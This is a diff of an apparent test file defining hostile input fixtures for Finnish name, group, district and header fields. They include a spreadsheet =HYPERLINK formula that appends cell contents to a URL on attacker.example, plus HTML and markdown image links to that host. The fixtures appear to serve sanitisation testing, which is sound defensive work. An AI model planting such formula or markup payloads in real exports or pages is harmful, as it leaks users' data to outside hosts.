@@ -29,7 +29,7 @@ HOSTILE_GROUP = '7A <a href="https://attacker.example/g">avaa</a> <img src="http
 HOSTILE_SURNAME = '=HYPERLINK("https://attacker.example/x?d="&A3&B3&C3&D3,"Mäkinen")'
 HOSTILE_FIRST_NAME = "<b>Aino</b> ![p](https://attacker.example/p.png)"
 HOSTILE_STAFF = "[Henkilö](https://attacker.example/s) :red[punainen] $x^2$"
-HOSTILE_DISTRICT = "https://attacker.example/alue :material/warning: www.attacker.example"
+HOSTILE_DISTRICT = "https://attacker.example/alue :material/warning: www.attacker.example pahis@attacker.example"
 HOSTILE_YEAR = " ![y](https://attacker.example/y.png)"
 HOSTILE_HEADER = "![h](https://attacker.example/header.png) [Lataa](https://attacker.example/h)"
 OUTSIDE = "attacker.example"
